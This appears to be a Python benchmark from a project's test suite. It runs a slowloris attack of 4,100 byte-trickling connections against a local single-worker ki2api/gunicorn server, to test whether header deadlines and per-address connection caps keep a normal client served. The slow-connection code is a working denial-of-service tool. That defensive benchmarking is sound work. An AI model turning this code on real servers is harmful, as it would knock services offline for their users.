"""Slowloris against one gunicorn worker without nginx: does a normal client still get answers?

The attack of issue 19: 4,100 connections from one address (127.0.0.2) sending a request's headers one byte
every 0.5 s; a connection the server ends is reopened, at most `--reopen-rate` a second in all (as slowloris
tools do: slowhttptest opens 50 a second by default; `0`: each one 0.5 s after it ended, a flood of
connections rather than a slow attack). Meanwhile a normal client on 127.0.0.1 opens a
new connection for each `GET /health`, one after the other, and its latencies are recorded (a request not
answered within 10 s is an error). Two phases, each on a fresh ki2api (1 worker, the shipped settings):
`unguarded` turns the header deadline and the per-address cap off (REQUEST_HEADER_TIMEOUT=0,
MAX_CONNECTIONS_PER_ADDRESS=0: what gunicorn's gevent worker did before), `guarded` keeps their defaults.

    .venv/bin/python -m bench.experiments.slowloris [--connections 4100] [--seconds 20] [--reopen-rate 200]
"""
from __future__ import annotations

import argparse
import asyncio
import json
import time
from typing import Any

from bench import procs

ATTACKER, CLIENT = "127.0.0.2", "127.0.0.1"
PACE = 0.5  # seconds between two bytes of one attacking connection
CLIENT_TIMEOUT = 10.0
HEADERS = b"GET /health HTTP/1.1\r\nHost: x\r\n" + b"X-Slow: a\r\n" * 10_000  # never ends within a run


class Pacer:
    """At most `rate` connections a second over all the attacking connections (0: no limit)."""

    def __init__(self, rate: float) -> None:
        self.interval = 1.0 / rate if rate else 0.0
        self.next = 0.0

    async def wait(self) -> None:
        now = asyncio.get_running_loop().time()
        slot = max(now, self.next)
        self.next = slot + self.interval
        await asyncio.sleep(slot - now)


async def slow_connection(port: int, stats: dict[str, int], stop: asyncio.Event, pacer: Pacer) -> None:
    """One attacking connection, reopened whenever the server ends it, until `stop`."""
    first = True
    while not stop.is_set():
        if not first:
            await pacer.wait()
        first = False
        try:
            reader, writer = await asyncio.open_connection("127.0.0.1", port, local_addr=(ATTACKER, 0))
        except OSError:
            stats["connect_errors"] += 1
            await asyncio.sleep(PACE)
            continue
        stats["opened"] += 1
        stats["open"] += 1
        stats["most_open"] = max(stats["most_open"], stats["open"])
        try:
            for byte in HEADERS:
                if stop.is_set():
                    break
                writer.write(bytes([byte]))
                await writer.drain()
                try:
                    answer = await asyncio.wait_for(reader.read(4096), PACE)
                except asyncio.TimeoutError:
                    continue  # still open: the next byte
                stats["answered_429" if answer.startswith(b"HTTP/1.1 429") else "closed_by_server"] += 1
                break
        except OSError:
            stats["closed_by_server"] += 1
        finally:
            stats["open"] -= 1
            writer.close()
        await asyncio.sleep(PACE)


async def normal_request(port: int) -> float:
    """Seconds for one `GET /health` on a new connection (raises on an error or after CLIENT_TIMEOUT)."""
    started = time.perf_counter()
    reader, writer = await asyncio.open_connection("127.0.0.1", port, local_addr=(CLIENT, 0))
    try:
        writer.write(b"GET /health HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
        answer = await reader.read()
    finally:
        writer.close()
    if not answer.startswith(b"HTTP/1.1 200"):
        raise RuntimeError(answer[:80])
    return time.perf_counter() - started


async def attack(port: int, connections: int, seconds: float, reopen_rate: float) -> dict[str, Any]:
    """Ramp the attack up, then measure the normal client for `seconds` while it goes on."""
    stats = dict.fromkeys(("opened", "open", "most_open", "closed_by_server", "answered_429", "connect_errors"), 0)
    stop, pacer = asyncio.Event(), Pacer(reopen_rate)
    tasks = []
    for i in range(connections):
        tasks.append(asyncio.create_task(slow_connection(port, stats, stop, pacer)))
        if i % 200 == 199:
            await asyncio.sleep(0.1)
    await asyncio.sleep(5.0)  # every attacking connection opened and trickling
    latencies, errors = [], 0
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            latencies.append(await asyncio.wait_for(normal_request(port), CLIENT_TIMEOUT))
        except (OSError, RuntimeError, asyncio.TimeoutError):
            errors += 1
        await asyncio.sleep(0.05)
    stop.set()
    open_at_end = stats["open"]
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)
    latencies.sort()

    def at(q: float) -> float | None:
        return round(latencies[min(len(latencies) - 1, int(q * len(latencies)))] * 1000, 1) if latencies else None

    return {"client_requests": len(latencies) + errors, "client_errors": errors, "client_p50_ms": at(0.50),
            "client_p99_ms": at(0.99), "client_max_ms": round(latencies[-1] * 1000, 1) if latencies else None,
            "attack": {**stats, "open": open_at_end}}


def phase(upstream: procs.Upstream, args: argparse.Namespace, **env: str) -> dict[str, Any]:
    """One fresh ki2api with `env`, attacked; the load average before and after."""
    gateway = procs.Ki2api(upstream, **env)
    try:
        before = procs.loadavg()
        result = asyncio.run(attack(gateway.gateway.port, args.connections, args.seconds, args.reopen_rate))
        return {**result, "loadavg_before": before, "loadavg_after": procs.loadavg()}
    finally:
        gateway.stop()


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--connections", type=int, default=4100)
    parser.add_argument("--seconds", type=float, default=20.0)
    parser.add_argument("--reopen-rate", type=float, default=200.0)
    args = parser.parse_args()
    procs.raise_fd_limit()
    upstream = procs.start_upstream("fake_kiro")
    try:
        result = {
            "args": vars(args),
            "unguarded": phase(upstream, args, REQUEST_HEADER_TIMEOUT="0", MAX_CONNECTIONS_PER_ADDRESS="0"),
            "guarded": phase(upstream, args),
        }
    finally:
        upstream.stop()
    print(json.dumps(result, indent=2))


if __name__ == "__main__":
    main()
